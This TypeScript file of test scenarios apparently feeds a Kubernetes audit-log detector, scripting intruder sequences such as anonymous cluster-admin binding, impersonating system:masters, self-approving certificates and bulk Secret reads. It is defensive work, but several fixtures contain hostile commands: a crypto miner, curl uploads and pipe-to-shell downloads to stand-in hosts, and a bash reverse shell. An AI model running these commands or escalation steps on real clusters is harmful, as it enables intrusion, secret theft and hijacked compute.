/** Intruders who come by rights: their own, other people's, or those of what they have made. */
import { clusterRole, clusterRoleBinding, roleBinding, subject } from '../incidents/objects.ts';
import { acts, refused, times } from './acts.ts';
import { FACTS, grave, PEOPLE, thief } from './people.ts';
import type { Person, Situation } from './situation.ts';
import { account, app, OWN, pod, rule, runs, secret, space } from './things.ts';

/** A certificate request for `system:kube-controller-manager`, whose key was thrown away. */
const REQUEST = [
  'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIa01JR0xBZ0VBTUNreEp6QWxCZ05WQkFNTUhuTjVjM1JsYlRwcmRXSmxMV0',
  '52Ym5SeWIyeHNaWEl0YldGdQpZV2RsY2pCWk1CTUdCeXFHU000OUFnRUdDQ3FHU000OUF3RUhBMElBQkcrREx0cy8wdXI2RHFLbHIwYVAyZGxH',
  'CmZjdGduSHY1NVRnTkJaMlhybG5Ec2V5RHMvbVFqNmFTckZLM0RvcDd6UjRKbkRBMkRaWStsWkY3V2NKMFFwYWcKQURBS0JnZ3Foa2pPUFFRRE',
  'FnTklBREJGQWlCL3gyeWltbEh6UHRnOU1CcEZuNU9kU2hZc2dEYTJERWNqMUZHZApHYUZhZVFJaEFKcHg0QU1sdEFyZ1VmZHJxNGEvMWFpQi8v',
  'TWx1aTdzNXdFUjM5ZVkvNEg4Ci0tLS0tRU5EIENFUlRJRklDQVRFIFJFUVVFU1QtLS0tLQo=',
].join('');

const RBAC = '/apis/rbac.authorization.k8s.io/v1';
const lately = (person: Person) => acts(person).get('/api/v1/namespaces');
const stolenAdmin = acts(thief(PEOPLE.dana));
const stolenAlice = acts(thief(PEOPLE.alice));
const stolenPipeline = acts(thief(PEOPLE.pipeline, 'curl/8.14.1'));

/** A role of the account with exactly these rights, which a story's victim has. */
const holder = (role: string, session: string, ...rights: object[]) => {
  const group = `${role.toLowerCase()}s`;
  const person: Person = {
    who: { role, session, groups: [group] },
    address: '203.0.113.90',
    userAgent: 'kubectl/v1.36.3 (linux/amd64) kubernetes/abcdef0',
  };
  const name = role.toLowerCase();
  return {
    person,
    standing: [clusterRole(name, ...rights), clusterRoleBinding(group, name, subject.group(group))],
    facts: { actor: `arn:aws:iam::111122223333:role/${role}`, right: name, binding: `ClusterRoleBinding ${group}` },
    stolen: acts(thief(person)),
  };
};

const makes = rule('', 'namespaces', 'get,list,create');
const runsThings = rule(',apps', 'pods,deployments,serviceaccounts', '*');
const ops = holder(
  'Operations',
  'botocore-session-1764460516',
  makes,
  runsThings,
  rule('', 'serviceaccounts/token', 'create'),
  rule('', 'secrets', 'get,list'),
);
const signer = holder(
  'CertOps',
  'i-0123456789abcdef0',
  makes,
  rule('certificates.k8s.io', 'certificatesigningrequests,certificatesigningrequests/approval,signers', '*'),
);
const masters = holder('BreakFix', 'unknown', makes, rule('', 'users,groups', 'impersonate'));
const aggregator = holder(
  'RbacTeam',
  'rbac-sync',
  makes,
  rule('rbac.authorization.k8s.io', 'clusterroles,clusterrolebindings,rolebindings', '*'),
);

const everything = rule('*', '*', '*');

export const IDENTITY: readonly Situation[] = [
  {
    name: 'anonymous-takeover',
    kind: 'hostile',
    story:
      'Somebody once bound cluster-admin to anonymous requests. An intruder finds it, makes a namespace without any identity, and starts a Deployment that mines.',
    ...(() => {
      const nobody: Person = { who: 'anonymous', address: '198.51.100.77', userAgent: 'Go-http-client/1.1' };
      const by = acts(nobody);
      return {
        standing: [clusterRoleBinding('support-access', 'cluster-admin', subject.user('system:anonymous'))],
        expect: grave(
          { actor: 'system:anonymous', right: 'cluster-admin', binding: 'ClusterRoleBinding support-access' },
          'HIGH' as const,
        ),
        before: [by.get('/api/v1/namespaces')],
        creation: [by.create(space('api-proxy'))],
        after: [
          by.create(
            app(
              'api-proxy',
              'proxy',
              runs('docker.io/proxyteam/xmrig:6.22.2', ['./xmrig', '-o', 'stratum+tcp://pool.example.net:4444']),
            ),
          ),
        ],
      };
    })(),
  },
  {
    name: 'impersonates-masters',
    kind: 'hostile',
    story:
      'A stolen role that may impersonate acts as system:masters, makes a namespace, and binds its own group to cluster-admin.',
    standing: masters.standing,
    expect: grave({ actor: masters.facts.actor, right: 'system:masters' }),
    before: [lately(masters.person)],
    ...(() => {
      const as = { 'impersonate-user': 'kube-root', 'impersonate-group': 'system:masters' };
      return {
        creation: [masters.stolen.get('/api/v1/namespaces', as), masters.stolen.create(space('ops-cache'), as)],
        after: [
          masters.stolen.create(clusterRoleBinding('ops-cache', 'cluster-admin', subject.group('breakfixs')), as),
        ],
      };
    })(),
  },
  {
    name: 'token-of-gitops',
    kind: 'hostile',
    story:
      'A stolen operations role asks for a token of the GitOps controller, makes a namespace, and lists the Secrets of the whole cluster.',
    standing: ops.standing,
    expect: grave(ops.facts),
    before: [lately(ops.person)],
    creation: [
      ops.stolen.post('/api/v1/namespaces/flux-system/serviceaccounts/kustomize-controller/token', {
        apiVersion: 'authentication.k8s.io/v1',
        kind: 'TokenRequest',
        spec: {},
      }),
      ops.stolen.create(space('sync-cache')),
    ],
    after: [
      times(3, ops.stolen.get('/api/v1/secrets?limit=500')),
      ops.stolen.get('/api/v1/namespaces/kube-system/secrets'),
      ops.stolen.create(
        pod(
          'sync-cache',
          'upload',
          runs('docker.io/curlimages/curl:8.16.0', ['sh', '-c', 'curl -s -T /tmp/s https://files.example.net/u']),
        ),
      ),
    ],
  },
  {
    name: 'signs-own-certificate',
    kind: 'hostile',
    story:
      'A stolen role makes a namespace, requests a client certificate for the controller manager, and approves it itself.',
    standing: signer.standing,
    expect: grave(signer.facts),
    before: [lately(signer.person)],
    creation: [signer.stolen.create(space('cert-sync'))],
    after: [
      signer.stolen.create(csr('cert-sync')),
      signer.stolen.put(
        '/apis/certificates.k8s.io/v1/certificatesigningrequests/cert-sync/approval',
        approved('cert-sync'),
      ),
    ],
  },
  {
    name: 'binds-account-in-kube-system',
    kind: 'hostile',
    story:
      'With a stolen administrator, an intruder makes a namespace and gives its account the role admin in kube-system.',
    expect: grave(FACTS.dana),
    before: [lately(PEOPLE.dana)],
    creation: [stolenAdmin.create(space('telemetry'))],
    after: [
      stolenAdmin.create(account('telemetry', 'agent')),
      stolenAdmin.create(roleBinding('kube-system', 'telemetry', 'admin', subject.account('telemetry', 'agent'))),
      stolenAdmin.get('/api/v1/namespaces/kube-system/secrets'),
      stolenAdmin.create(
        app('telemetry', 'agent', { serviceAccountName: 'agent', automountServiceAccountToken: true }),
      ),
    ],
  },
  {
    name: 'pipeline-binds-account',
    kind: 'hostile',
    story:
      'With the token of the pipeline, an intruder makes a namespace, binds its default account to cluster-admin, and runs a pod as it.',
    expect: grave(FACTS.pipeline),
    before: [lately(PEOPLE.pipeline), refused(stolenPipeline.get('/api/v1/secrets'))],
    creation: [stolenPipeline.create(space('build-tools'))],
    after: [
      stolenPipeline.create(
        clusterRoleBinding('build-tools', 'cluster-admin', subject.account('build-tools', 'default')),
      ),
      stolenPipeline.create(pod('build-tools', 'shell', runs('docker.io/bitnami/kubectl:1.36', ['sleep', 'infinity']))),
    ],
  },
  {
    name: 'nodes-proxy-role',
    kind: 'hostile',
    story: 'A stolen administrator gives the account of a new namespace the right to speak to every kubelet.',
    expect: grave(FACTS.dana),
    before: [lately(PEOPLE.dana)],
    creation: [stolenAdmin.create(space('node-metrics'))],
    after: [
      stolenAdmin.create(
        clusterRole('node-metrics', rule('', 'nodes/proxy', 'get,create'), rule('', 'nodes', 'get,list')),
      ),
      stolenAdmin.create(
        clusterRoleBinding('node-metrics', 'node-metrics', subject.account('node-metrics', 'default')),
      ),
      stolenAdmin.create(pod('node-metrics', 'probe', runs('docker.io/curlimages/curl:8.16.0', ['sleep', 'infinity']))),
    ],
  },
  {
    name: 'wildcard-by-small-role',
    kind: 'hostile',
    story:
      'A stolen role of the team that manages rights makes a namespace, and writes a role that allows everything for its account, under a harmless name.',
    standing: [
      ...aggregator.standing,
      clusterRoleBinding('rbac-teams-admin', 'cluster-admin', subject.group('rbacteams')),
    ],
    expect: grave({ actor: aggregator.facts.actor }),
    before: [lately(aggregator.person)],
    creation: [aggregator.stolen.create(space('image-cache'))],
    after: [
      aggregator.stolen.create(clusterRole('image-cache-reader', everything)),
      aggregator.stolen.create(
        clusterRoleBinding('image-cache-reader', 'image-cache-reader', subject.account('image-cache', 'default')),
      ),
    ],
  },
  {
    name: 'dozens-of-refusals',
    kind: 'hostile',
    story:
      'A stolen session of a developer tries everything, is refused dozens of times, makes a namespace, which it may, and starts a shell to the outside.',
    expect: grave(FACTS.alice, 'MEDIUM'),
    before: [
      lately(PEOPLE.alice),
      ...['secrets', 'nodes', 'persistentvolumes', 'serviceaccounts/x/token'].map((what) =>
        times(
          6,
          refused(
            stolenAlice.get(
              `/api/v1/${what === 'nodes' || what === 'persistentvolumes' ? what : `namespaces/kube-system/${what}`}`,
            ),
          ),
        ),
      ),
      times(6, refused(stolenAlice.get(`${RBAC}/clusterroles`))),
    ],
    creation: [stolenAlice.create(space('checkout-cache'))],
    after: [
      stolenAlice.create(
        pod(
          'checkout-cache',
          'cache',
          runs(`${OWN}/tools:1.0.0`, ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1']),
        ),
      ),
    ],
  },
  {
    name: 'reads-every-secret',
    kind: 'hostile',
    story:
      'A stolen administrator makes a namespace, reads every Secret of the cluster with curl, and puts them where a pod can take them away.',
    expect: grave(FACTS.dana),
    before: [lately(PEOPLE.dana)],
    creation: [acts(thief(PEOPLE.dana, 'curl/8.14.1')).create(space('archive'))],
    after: [
      ...['kube-system', 'flux-system', 'default'].map((name) =>
        times(4, acts(thief(PEOPLE.dana, 'curl/8.14.1')).get(`/api/v1/namespaces/${name}/secrets`)),
      ),
      acts(thief(PEOPLE.dana, 'curl/8.14.1')).create(secret('archive', 'bundle')),
      acts(thief(PEOPLE.dana, 'curl/8.14.1')).create(
        pod(
          'archive',
          'sync',
          runs('docker.io/rclone/rclone:1.71', ['sh', '-c', 'curl -s https://drop.example.net/i.sh | sh']),
        ),
      ),
    ],
  },
];

function csr(name: string): object {
  return {
    apiVersion: 'certificates.k8s.io/v1',
    kind: 'CertificateSigningRequest',
    metadata: { name },
    spec: { request: REQUEST, signerName: 'kubernetes.io/kube-apiserver-client', usages: ['client auth'] },
  };
}

function approved(name: string): object {
  const condition = { type: 'Approved', status: 'True', reason: 'Renewal', message: 'renewed' };
  return { ...csr(name), status: { conditions: [condition] } };
}
